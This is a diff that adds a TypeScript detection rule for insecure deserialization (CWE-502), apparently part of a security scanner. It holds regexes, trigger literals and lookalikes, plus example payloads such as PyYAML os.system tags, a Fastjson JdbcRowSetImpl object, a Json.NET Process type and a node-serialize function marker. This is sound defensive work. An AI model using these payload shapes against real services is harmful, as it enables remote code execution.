@@ -1,0 +1,84 @@
+import type { Match, ValueRule } from '../rule.ts';
+
+/** YAML tags that make objects of the language: PyYAML, SnakeYAML, Psych. */
+const yamlTag =
+  /!!(?:python\/(?:object|name|module|tuple)[\w/]{0,20}:|(?:java|javax|com|org|ch)\.[\w.$]{2,80}|ruby\/\w+)|!ruby\/(?:object|hash|struct|exception|regexp|class|module)\b|!<tag:[\w.,]{2,40}:[\w/]/;
+/** Type members of JSON libraries: Fastjson `@type`, Json.NET `$type`, Jackson `@class`. */
+const typedMember =
+  /"(?:@type|@class|\$type|__type|javaClass|\\u0040type|\\x40type)"\s{0,4}:\s{0,4}"(?:L|\[)?[A-Za-z_]\w{0,40}\.[\w.$`]{2,120}[,;"]/;
+/** Jackson's polymorphic array: `["package.Class", …]`. */
+const typedArray = /\[\s{0,4}"(?:[a-z][a-z0-9_]{0,30}\.){2,8}[A-Z]\w{0,60}"\s{0,4},\s{0,4}[{["]/;
+/** XML that names classes to make: XStream, XMLDecoder, XAML, Castor. */
+const typedXml =
+  /<dynamic-proxy>|<java(?: version="[^"]{1,20}")? class="|<(?:object|void|target|handler|command)[^<>]{0,80} class="java|<(?:java|javax|com|org|sun)\.[\w.]{2,80}[>\s/]|<ObjectDataProvider\b|<ResourceDictionary\b|<ExpandedWrapper|\bxsi:type="[\w:]*java\./;
+/** node-serialize. */
+const nodeFunction = '_$$ND_FUNC$$_';
+const shapes: readonly RegExp[] = [yamlTag, typedMember, typedArray, typedXml];
+
+/** Text formats that name the class to be made. */
+export const typedText: ValueRule = {
+  id: 'deserialization.typed-text',
+  category: 'deserialization',
+  cwe: 'CWE-502',
+  severity: 'critical',
+  score: 85,
+  message: 'names a class that the reader of the format is to make and run',
+  trigger: {
+    literals: [
+      [
+        '!!python',
+        '!!java',
+        '!!com.',
+        '!!org.',
+        '!!ch.',
+        '!!ruby',
+        '!ruby/',
+        '!<tag:',
+        'type"',
+        'class"',
+        'class="',
+        '["',
+        '[ "',
+        '[\n',
+        'dynamic-proxy',
+        '<java',
+        '<com.',
+        '<org.',
+        '<sun.',
+        'ObjectDataProvider',
+        'ResourceDictionary',
+        'ExpandedWrapper',
+        nodeFunction,
+      ],
+    ],
+  },
+  examples: [
+    '!!python/object/apply:os.system ["ls"]',
+    '!!javax.script.ScriptEngineManager [!!java.net.URL ["http://a.test"]]',
+    '--- !ruby/object:Gem::Requirement',
+    '{"@type":"com.sun.rowset.JdbcRowSetImpl","autoCommit":true}',
+    '{"$type":"System.Diagnostics.Process, System"}',
+    '["org.springframework.context.support.FileSystemXmlApplicationContext", "http://a.test/x"]',
+    '{"f":"_$$ND_FUNC$$_function(){}()"}',
+    '<java version="1.8" class="java.beans.XMLDecoder"></java>',
+  ],
+  lookalikes: [
+    '{"@context":"https://schema.org","@type":"Person","name":"Anna"}',
+    '["www.example.com", "mail.example.com"]',
+    '{"type":"com.example.event","class":"a.b"}',
+    'Wow!! java is great',
+    '{"@type": "BreadcrumbList"}',
+    '<object class="icon" data="a.svg"></object>',
+    '["file.name.Txt"]',
+  ],
+  judge(subject): Match | undefined {
+    const text = subject.text;
+    const script = text.indexOf(nodeFunction);
+    if (script >= 0) return { start: script, end: script + nodeFunction.length };
+    for (const shape of shapes) {
+      const found = shape.exec(text);
+      if (found !== null) return { start: found.index, end: found.index + found[0].length };
+    }
+    return undefined;
+  },
+};
